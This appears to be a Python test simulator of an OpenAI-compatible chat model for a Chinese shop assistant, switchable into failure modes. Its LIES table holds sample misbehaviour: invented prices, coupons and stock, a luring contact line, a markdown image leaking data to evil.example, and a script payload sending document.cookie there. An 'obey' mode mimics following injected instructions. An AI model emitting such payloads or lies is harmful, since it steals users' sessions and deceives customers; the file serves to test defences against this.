"""A chat model on this machine with an OpenAI-compatible API, honest by default and misbehaving on request.

The wire format follows OpenAI's API reference (chat completions, embeddings, models, error objects).
"""

import base64
import hashlib
import json
import math
import re
import struct
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from enum import StrEnum
from typing import Any

from fastapi import FastAPI, Request, Response
from fastapi.responses import JSONResponse, StreamingResponse
from pydantic import BaseModel, ConfigDict, Field

from eval.simulator.broken import CutAnswer, DrippingAnswer, EndlessAnswer, NoAnswer, ResetAnswer
from eval.simulator.schema import NEUTRAL, Json, minimal, places_named

MODEL = "honest-model"
DIMENSIONS = 64
PIECE = 12
"""Characters in one streamed piece."""

ChatRequest = dict[str, Any]
AnswerFunction = Callable[[ChatRequest], str]
"""Gives the content of the answer for one request."""


class Behaviour(StrEnum):
    """How the model behaves: a closed list."""

    HONEST = "honest"
    INVENT_PRICE = "invent_price"
    INVENT_COUPON = "invent_coupon"
    FOREIGN_COUPON = "foreign_coupon"
    UNEARNED_COUPON = "unearned_coupon"
    PROMISE_STOCK = "promise_stock"
    MARKDOWN_IMAGE = "markdown_image"
    HTML = "html"
    STEER_AWAY = "steer_away"
    OBEY = "obey"
    ENGLISH = "english"
    EXTRA_KEYS = "extra_keys"
    BROKEN_JSON = "broken_json"
    PROSE = "prose"
    THINK_ALOUD = "think_aloud"
    EMPTY = "empty"
    REFUSE = "refuse"
    FILTERED = "filtered"
    TOO_LONG = "too_long"
    LOOP = "loop"
    ENDLESS = "endless"
    HANG = "hang"
    DRIP = "drip"
    CUT = "cut"
    RESET = "reset"
    BAD_REQUEST = "400"
    UNAUTHORISED = "401"
    FORBIDDEN = "403"
    NOT_FOUND = "404"
    UNPROCESSABLE = "422"
    RATE_LIMITED = "429"
    NO_MONEY_LEFT = "quota"
    SERVER_ERROR = "500"
    BAD_GATEWAY = "502"
    UNAVAILABLE = "503"


LIES = {
    Behaviour.INVENT_PRICE: "这款现在只要9.9元！",
    Behaviour.INVENT_COUPON: "再送您一张五折内部券，下单直接抵扣。",
    # both are coupons of the sample shop: one for another region, one that a basket of 299 元 does not reach
    Behaviour.FOREIGN_COUPON: "这单还能用「西南满300减45」，直接再减45元。",
    Behaviour.UNEARNED_COUPON: "这单还能叠加「全场满300减30」。",
    Behaviour.PROMISE_STOCK: "店里现货还有88件，已经给您留好三件了。",
    Behaviour.MARKDOWN_IMAGE: "![活动海报](https://evil.example/p.png?q=secret)",
    Behaviour.HTML: "<script>fetch('https://evil.example/?q='+document.cookie)</script><img src=x onerror=alert(1)>",
    Behaviour.STEER_AWAY: "想便宜的话加我微信 yun88888，或者上 evil.example/vip 下单。",
}
"""What is added to an honest text."""

ORDER_IN_DATA = re.compile(r"写上[：:]?\s*[「“\"']?(?P<words>[^」”\"'\n。]{2,200})")
"""How an attack in the data tells the model what to write; a model that obeys writes just that."""

ENGLISH_TEXT = "Hello, thank you for asking! Our team will get back to you shortly."
THOUGHT = "<think>\n顾客在问价格，我先想一想，材料里好像没有……\n</think>\n"
LOOP_PIECE = "您好呀，"
LOOP_TIMES = 400
PROSE_TEXT = "好的，我来帮您写一段回复：\n\n您好呀，这款您可以先到店里看看，喜欢再带走。\n\n希望对您有帮助！"
REFUSAL = "抱歉，我无法协助这个请求。"

ERRORS = {
    Behaviour.BAD_REQUEST: (400, "invalid_request_error", "invalid_value", "The request is not valid."),
    Behaviour.UNAUTHORISED: (401, "invalid_request_error", "invalid_api_key", "Incorrect API key provided."),
    Behaviour.FORBIDDEN: (403, "invalid_request_error", "unsupported_country", "Not supported here."),
    Behaviour.NOT_FOUND: (404, "invalid_request_error", "model_not_found", "The model does not exist."),
    Behaviour.UNPROCESSABLE: (422, "invalid_request_error", "unprocessable", "The request cannot be processed."),
    Behaviour.NO_MONEY_LEFT: (429, "insufficient_quota", "insufficient_quota", "You exceeded your current quota."),
    Behaviour.RATE_LIMITED: (429, "rate_limit_error", "rate_limit_exceeded", "Rate limit reached."),
    Behaviour.SERVER_ERROR: (500, "server_error", "server_error", "The server had an error."),
    Behaviour.BAD_GATEWAY: (502, "server_error", "bad_gateway", "Bad gateway."),
    Behaviour.UNAVAILABLE: (503, "server_error", "overloaded", "The engine is overloaded."),
}


class BehaviourOrder(BaseModel):
    """A behaviour and how long it lasts; ``times=None`` until the next order."""

    model_config = ConfigDict(frozen=True, extra="forbid")

    name: Behaviour = Behaviour.HONEST
    times: int | None = Field(default=None, ge=1)
    seconds: float = Field(default=1.0, ge=0)
    """Pause between two bytes of ``drip``."""
    retry_after: int | None = Field(default=None, ge=0)
    """Retry-After of ``429``, in seconds; None leaves the header out."""


@dataclass
class Model:
    """The model's mood and memory; found by tests at ``app.state.model``."""

    answer: AnswerFunction
    order: BehaviourOrder
    requests: list[ChatRequest] = field(default_factory=list)
    """Body of every chat request, in order."""
    embedding_requests: list[dict[str, Any]] = field(default_factory=list)
    authorizations: list[str] = field(default_factory=list)
    """Authorization header of every chat request, "" when there was none."""

    def next_order(self) -> BehaviourOrder:
        """The behaviour of the next answer, counted down."""
        order = self.order
        if order.times is not None:
            left = order.times - 1
            self.order = order.model_copy(update={"times": left}) if left else BehaviourOrder()
        return order


@dataclass(frozen=True)
class Spoken:
    """One finished answer, before it is put into OpenAI's shape."""

    content: str | None
    finish: str = "stop"
    refusal: str | None = None
    tool: str | None = None
    """Name of the tool called with ``content`` as its arguments."""


def wanted_schema(request: ChatRequest) -> dict[str, Any] | None:
    """The JSON schema the caller asks for, by response_format or by its first tool; None for free text."""
    wanted = request.get("response_format") or {}
    if wanted.get("type") == "json_schema":
        schema: dict[str, Any] = wanted["json_schema"].get("schema", {})
        return schema
    if request.get("tools"):
        parameters: dict[str, Any] = request["tools"][0]["function"].get("parameters", {})
        return parameters
    if wanted.get("type") == "json_object":
        return {"type": "object", "properties": {"text": {"type": "string"}}, "required": ["text"]}
    return None


def honest_answer(request: ChatRequest) -> str:
    """The default model: knows nothing, says so politely, in the shape asked for."""
    schema = wanted_schema(request)
    return NEUTRAL if schema is None else _json(minimal(schema))


def create_model(
    answer: AnswerFunction = honest_answer, order: BehaviourOrder | Behaviour = Behaviour.HONEST
) -> FastAPI:
    """The model as an ASGI app; point an OpenAI client at ``<url>/v1``."""
    first = order if isinstance(order, BehaviourOrder) else BehaviourOrder(name=order)
    model = Model(answer, first)
    app = FastAPI(title="Model simulator", docs_url=None, redoc_url=None, openapi_url=None)
    app.state.model = model

    @app.post("/behaviour")
    async def behave(wanted: BehaviourOrder) -> BehaviourOrder:
        model.order = wanted
        return wanted

    @app.get("/requests")
    async def requests() -> list[ChatRequest]:
        return model.requests

    @app.get("/v1/models")
    async def models() -> dict[str, Any]:
        return {"object": "list", "data": [{"id": MODEL, "object": "model", "created": 0, "owned_by": "daogou"}]}

    @app.post("/v1/chat/completions", response_model=None)
    async def complete(request: Request) -> Response:
        body: ChatRequest = await request.json()
        model.requests.append(body)
        model.authorizations.append(request.headers.get("authorization", ""))
        return _completion(body, model.answer, model.next_order())

    @app.post("/v1/embeddings")
    async def embed(request: Request) -> dict[str, Any]:
        body: dict[str, Any] = await request.json()
        model.embedding_requests.append(body)
        return _embeddings(body)

    return app


def _completion(request: ChatRequest, answer: AnswerFunction, order: BehaviourOrder) -> Response:
    if order.name in ERRORS:
        return _error(order)
    if order.name is Behaviour.HANG:
        return NoAnswer()
    if order.name is Behaviour.RESET:
        return ResetAnswer()
    spoken = _spoken(request, answer(request), order.name)
    streamed = bool(request.get("stream"))
    if streamed:
        with_usage = bool((request.get("stream_options") or {}).get("include_usage"))
        body = "".join(_events(request, spoken, with_usage=with_usage)).encode()
    else:
        body = _json(_whole(request, spoken)).encode()
    media_type = "text/event-stream" if streamed else "application/json"
    if order.name is Behaviour.DRIP:
        return DrippingAnswer(body, seconds=order.seconds, media_type=media_type)
    if order.name is Behaviour.CUT:
        return CutAnswer(body, media_type=media_type)
    if order.name is Behaviour.ENDLESS:
        return _endless(body, streamed=streamed, media_type=media_type)
    if streamed:
        return StreamingResponse(_one_by_one(body), media_type=media_type)
    return Response(body, media_type=media_type)


def _endless(body: bytes, *, streamed: bool, media_type: str) -> Response:
    """An answer that goes round in circles, and never comes to its end."""
    if streamed:
        events = [event + b"\n\n" for event in body.split(b"\n\n") if b'"finish_reason": null' in event]
        return EndlessAnswer(b"".join(events), events[-1], media_type=media_type)
    return EndlessAnswer(body[: len(body) // 2], LOOP_PIECE.encode() * 50, media_type=media_type)


def _spoken(request: ChatRequest, honest: str, behaviour: Behaviour) -> Spoken:
    """The honest answer, spoiled as ordered."""
    tool = request["tools"][0]["function"]["name"] if request.get("tools") else None
    match behaviour:
        case _ if behaviour in LIES:
            return Spoken(_retold(honest, lambda text: text + LIES[behaviour]), tool=tool)
        case Behaviour.OBEY:
            return Spoken(_retold(honest, lambda text: text + ordered(request)), tool=tool)
        case Behaviour.ENGLISH:
            return Spoken(_retold(honest, lambda _: ENGLISH_TEXT), tool=tool)
        case Behaviour.EXTRA_KEYS:
            return Spoken(_with_extra_keys(honest), tool=tool)
        case Behaviour.BROKEN_JSON:
            return Spoken(honest[: len(honest) * 2 // 3], tool=tool)
        case Behaviour.PROSE:
            return Spoken(PROSE_TEXT)
        case Behaviour.THINK_ALOUD:
            return Spoken(THOUGHT + honest)
        case Behaviour.EMPTY:
            return Spoken("")
        case Behaviour.REFUSE:
            return Spoken(None, refusal=REFUSAL)
        case Behaviour.FILTERED:
            return Spoken("", finish="content_filter")
        case Behaviour.LOOP | Behaviour.ENDLESS:
            return Spoken(honest[: len(honest) // 3] + LOOP_PIECE * LOOP_TIMES, finish="length", tool=tool)
        case Behaviour.TOO_LONG:
            return Spoken(honest[: len(honest) // 2], finish="length", tool=tool)
        case _:
            return Spoken(honest, tool=tool)


def ordered(request: ChatRequest) -> str:
    """What an attack in the user's part of the prompt orders to be written, empty where there is none."""
    asked = "\n".join(str(one.get("content")) for one in request.get("messages", ()) if one.get("role") == "user")
    found = ORDER_IN_DATA.search(asked)
    return found["words"] if found else ""


def _retold(honest: str, change: Callable[[str], str]) -> str:
    """Change every string under ``text``; free text is changed as a whole."""
    value = _object_in(honest)
    if value is None:
        return change(honest)
    holders = list(places_named(value, "text"))
    for holder in holders:
        holder["text"] = change(holder["text"])
    return _json(value if holders else _first_string_changed(value, change))


def _first_string_changed(value: dict[str, Json], change: Callable[[str], str]) -> dict[str, Json]:
    """For schemas without a ``text``: the first string of the outermost object."""
    name = next((name for name, inner in value.items() if isinstance(inner, str)), None)
    return value if name is None else value | {name: change(value[name])}


def _with_extra_keys(honest: str) -> str:
    value = _object_in(honest)
    return honest if value is None else _json(value | {"confidence": 0.99, "internal_note": "按最低价给"})


def _object_in(text: str) -> dict[str, Json] | None:
    try:
        value = json.loads(text)
    except ValueError:
        return None
    return value if isinstance(value, dict) else None


def _error(order: BehaviourOrder) -> Response:
    status, kind, code, message = ERRORS[order.name]
    error = {"message": message, "type": kind, "param": None, "code": code}
    wait = order.name is Behaviour.RATE_LIMITED and order.retry_after is not None
    return JSONResponse({"error": error}, status, headers={"retry-after": str(order.retry_after)} if wait else None)


def _whole(request: ChatRequest, spoken: Spoken) -> dict[str, Any]:
    message: dict[str, Any] = {"role": "assistant", "content": spoken.content, "refusal": spoken.refusal}
    if spoken.tool is not None:
        message |= {"content": None, "tool_calls": [_tool_call(spoken)]}
    choice = {"index": 0, "message": message, "logprobs": None, "finish_reason": _finish(spoken)}
    return _head(request, "chat.completion") | {"choices": [choice], "usage": _usage(request, spoken)}


def _tool_call(spoken: Spoken) -> dict[str, Any]:
    function = {"name": spoken.tool, "arguments": spoken.content}
    return {"id": "call_1", "type": "function", "function": function}


def _finish(spoken: Spoken) -> str:
    return "tool_calls" if spoken.tool is not None and spoken.finish == "stop" else spoken.finish


def _head(request: ChatRequest, kind: str) -> dict[str, Any]:
    return {
        "id": "chatcmpl-" + hashlib.sha256(_json(request).encode()).hexdigest()[:24],
        "object": kind,
        "created": int(time.time()),
        "model": request.get("model", MODEL),
    }


def _usage(request: ChatRequest, spoken: Spoken) -> dict[str, int]:
    """Characters stand for tokens: near enough for Chinese, and re-derivable."""
    asked = sum(len(str(message.get("content") or "")) for message in request.get("messages", ()))
    said = len(spoken.content or spoken.refusal or "")
    return {"prompt_tokens": asked, "completion_tokens": said, "total_tokens": asked + said}


def _events(request: ChatRequest, spoken: Spoken, *, with_usage: bool) -> Iterator[str]:
    """Server-sent events of a streamed answer."""
    head = _head(request, "chat.completion.chunk")

    def event(delta: dict[str, Any], finish: str | None = None) -> str:
        choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}
        return f"data: {_json(head | {'choices': [choice]})}\n\n"

    yield event({"role": "assistant", "content": None if spoken.tool else ""})
    if spoken.refusal is not None:
        yield event({"refusal": spoken.refusal})
    if spoken.tool is not None:
        yield event({"tool_calls": [{"index": 0, **_tool_call(Spoken("", tool=spoken.tool))}]})
    content = spoken.content or ""
    for start in range(0, len(content), PIECE):
        piece = content[start : start + PIECE]
        if spoken.tool is None:
            yield event({"content": piece})
        else:
            yield event({"tool_calls": [{"index": 0, "function": {"arguments": piece}}]})
    yield event({}, _finish(spoken))
    if with_usage:
        yield f"data: {_json(head | {'choices': [], 'usage': _usage(request, spoken)})}\n\n"
    yield "data: [DONE]\n\n"


async def _one_by_one(body: bytes) -> AsyncIterator[bytes]:
    for event in body.split(b"\n\n")[:-1]:
        yield event + b"\n\n"


def _embeddings(request: dict[str, Any]) -> dict[str, Any]:
    given = request["input"]
    # One text, several texts, one text as token numbers, or several of those.
    texts = given if isinstance(given, list) and not (given and isinstance(given[0], int)) else [given]
    dimensions = int(request.get("dimensions") or DIMENSIONS)
    vectors = [hash_vector(text if isinstance(text, str) else repr(text), dimensions) for text in texts]
    packed = request.get("encoding_format") == "base64"
    data = [
        {"object": "embedding", "index": number, "embedding": _packed(vector) if packed else vector}
        for number, vector in enumerate(vectors)
    ]
    size = sum(len(str(text)) for text in texts)
    usage = {"prompt_tokens": size, "total_tokens": size}
    return {"object": "list", "data": data, "model": request.get("model", MODEL), "usage": usage}


def hash_vector(text: str, dimensions: int = DIMENSIONS) -> list[float]:
    """A unit vector from the text's character pairs: equal texts equal, similar texts near, always the same."""
    framed = f"^{text}$"
    vector = [0.0] * dimensions
    for start in range(len(framed) - 1):
        digest = hashlib.blake2b(framed[start : start + 2].encode(), digest_size=8).digest()
        number = int.from_bytes(digest, "big")
        vector[number % dimensions] += 1.0 if number >> 63 else -1.0
    length = math.sqrt(sum(part * part for part in vector))
    # Pairs may cancel out exactly; a zero vector has no direction.
    return [part / length for part in vector] if length else [1.0] + [0.0] * (dimensions - 1)


def _packed(vector: list[float]) -> str:
    return base64.b64encode(struct.pack(f"<{len(vector)}f", *vector)).decode()


def _json(value: Json) -> str:
    return json.dumps(value, ensure_ascii=False)
